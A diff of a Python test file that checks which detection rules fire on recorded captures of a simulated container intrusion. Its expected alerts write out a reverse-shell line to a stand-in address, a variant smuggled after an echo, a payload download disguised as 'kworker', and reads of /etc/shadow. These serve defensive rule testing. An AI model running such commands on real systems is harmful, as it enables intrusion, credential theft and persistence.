@@ -13,38 +13,43 @@ FIRST_LIGHT, INTRUSION, ORDINARY = (
 )
 OFFICIAL_FILES = ("falco_rules", "falco-incubating_rules", "falco-sandbox_rules")
 
-SHOP, WORKER, HOST = "5d4c9e0f1b7a", "a81f0c3d9b26", "host"
+SHOP, HOST = "5d4c9e0f1b7a", "host"
 BREAK_IN = "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
-HEALTH_CHECK = "sh -c wget -q -O /dev/null http://127.0.0.1:8080/ || exit 1"
+QUOTED_BREAK_IN = "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"
 
 EXPECTED = [
     ("Container with host-like capabilities", SHOP, "lighttpd -D -f /etc/lighttpd/lighttpd.conf"),
-    ("Shell in a container", SHOP, HEALTH_CHECK),
     ("Configuration below etc written", HOST, "sh"),
     ("Server program started a shell or a tool", SHOP, "status /srv/www/cgi-bin/status"),
-    (
-        "Shell in a container",
-        SHOP,
-        "sh -c echo checking shop; bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
-    ),
-    ("Shell in a container", SHOP, BREAK_IN),
+    ("Shell connected by a line of script", SHOP, f"sh -c echo checking shop; {QUOTED_BREAK_IN}"),
+    ("Shell connected by a line of script", SHOP, BREAK_IN),
     ("System program connected to the network", SHOP, BREAK_IN),
     ("Standard stream redirected to a connection", SHOP, BREAK_IN),
     ("Standard stream redirected to a connection", SHOP, BREAK_IN),
     ("Standard stream redirected to a connection", SHOP, BREAK_IN),
     ("Shell in a container", SHOP, "bash -i"),
+    ("Shell reads from a connection", SHOP, "bash -i"),
+    ("Server program looks around", SHOP, "id"),
     ("Password hashes read", SHOP, "cat /etc/shadow"),
     ("Link to a credential file", SHOP, "ln -s /etc/shadow /srv/www/robots.bak"),
     ("File created below dev", SHOP, "cp /srv/www/robots.bak /dev/.cache"),
+    (
+        "Server program fetches a file",
+        SHOP,
+        "wget -q -O /tmp/.x/kworker http://203.0.113.66/kworker",
+    ),
+    ("Program disguised as a thread of the kernel", SHOP, "kworker"),
+    ("Program in a hidden place executed", SHOP, "kworker"),
     ("New program executed in a container", SHOP, "kworker"),
+    ("Program in a temporary folder executed", SHOP, "kworker"),
+    ("File from outside executed", SHOP, "kworker"),
+    ("File in memory made by a script", SHOP, "kworker"),
     ("Program executed from memory", SHOP, "memfd:x"),
+    ("Program disguised as a thread of the kernel", SHOP, "memfd:x"),
     ("Program placed in a binary directory", SHOP, "cp /tmp/.x/kworker /usr/local/bin/free"),
-    ("Password hashes read", HOST, "tar -c -z -f /var/backups/etc.tar.gz -C / etc"),
-    ("Shell in a container", WORKER, "sh -c wc -l /data/orders.csv > /data/count"),
     ("Configuration below etc written", SHOP, "bash -i"),
     ("Scheduled job written", SHOP, "bash -i"),
     ("Standard stream redirected to a connection", SHOP, "bash -i"),
-    ("Shell in a container", SHOP, HEALTH_CHECK),
     ("Shell in a container", SHOP, "sh"),
 ]
 """Rule, container and command line of each alert of the shipped rules, in order."""
@@ -75,31 +80,31 @@ OFFICIAL = {
 
 APPLICATION, CONNECTED = "c7e21b9a4d60", "Standard stream redirected to a connection"
 AGENT, BEHIND = "thumbs-f1ca20", "sh -i"
-BACKUP = ("Password hashes read", HOST, "tar -c -z -f /var/backups/etc.tar.gz -C / etc")
 DOWNLOAD = (
     "python3 -c import urllib.request as u; "
     "u.urlretrieve('http://static.example.net/cleanup.txt', '/usr/local/bin/cleanup')"
 )
 EXPECTED_OF_INTRUSION = [
-    BACKUP,
     ("Program executed from shared memory", APPLICATION, AGENT),
     ("Password hashes read", APPLICATION, AGENT),
     ("Private key or cloud credentials read", APPLICATION, AGENT),
     ("Private key or cloud credentials read", APPLICATION, AGENT),
+    ("Credential file read, then a connection", APPLICATION, AGENT),
+    ("Credential file read, then a connection", APPLICATION, AGENT),
     (CONNECTED, APPLICATION, AGENT),
     (CONNECTED, APPLICATION, AGENT),
     (CONNECTED, APPLICATION, AGENT),
+    ("Shell in a container", APPLICATION, BEHIND),
+    ("Shell reads from a connection", APPLICATION, BEHIND),
     ("Program placed in a binary directory", APPLICATION, DOWNLOAD),
     ("Configuration below etc written", APPLICATION, BEHIND),
     ("Scheduled job written", APPLICATION, BEHIND),
     (CONNECTED, APPLICATION, BEHIND),
-    BACKUP,
     ("Key for logins written", APPLICATION, BEHIND),
     (CONNECTED, APPLICATION, BEHIND),
     ("Shell history removed", APPLICATION, "rm -f /root/.bash_history"),
-    BACKUP,
 ]
-"""The same of the intrusion, without the shells that answer each report."""
+"""The same of the intrusion."""
 
 OFFICIAL_OF_INTRUSION = {
     "Adding ssh keys to authorized_keys": 1,
@@ -129,7 +134,7 @@ OFFICIAL_OF_ORDINARY = {
 }
 
 
-def alerts_of(path: Path, *, without: frozenset[str] = frozenset()) -> list[tuple[str, str, str]]:
+def alerts_of(path: Path) -> list[tuple[str, str, str]]:
     """Rule, container and command line of each alert of the shipped rules, in order."""
     with ft.open(path) as opened:
         alerts = sorted(opened.scan(ft.rules()), key=lambda alert: alert.num)
@@ -137,22 +142,14 @@ def alerts_of(path: Path, *, without: frozenset[str] = frozenset()) -> list[tupl
             (alert.rule.name, str(fields["container.id"]), str(fields["proc.cmdline"]))
             for alert in alerts
             for fields in [alert.output_fields]
-            if alert.rule.name not in without
         ]
 
 
 def test_shipped_rules_fire_where_expected() -> None:
     """Each of the shipped rules fires on what it is for, and on nothing else."""
-    shells = frozenset({"Shell in a container"})
     assert alerts_of(FIRST_LIGHT) == EXPECTED
-    assert alerts_of(INTRUSION, without=shells) == EXPECTED_OF_INTRUSION
-    assert alerts_of(ORDINARY, without=shells) == [BACKUP]
-
-
-def test_every_shipped_rule_fires_somewhere() -> None:
-    """A rule that no capture of ours shows is a rule that nobody saw work."""
-    fired = {rule for path in (FIRST_LIGHT, INTRUSION) for rule, _, _ in alerts_of(path)}
-    assert fired == {rule.name for rule in ft.rules().rules}
+    assert alerts_of(INTRUSION) == EXPECTED_OF_INTRUSION
+    assert alerts_of(ORDINARY) == []
 
 
 @pytest.mark.parametrize(
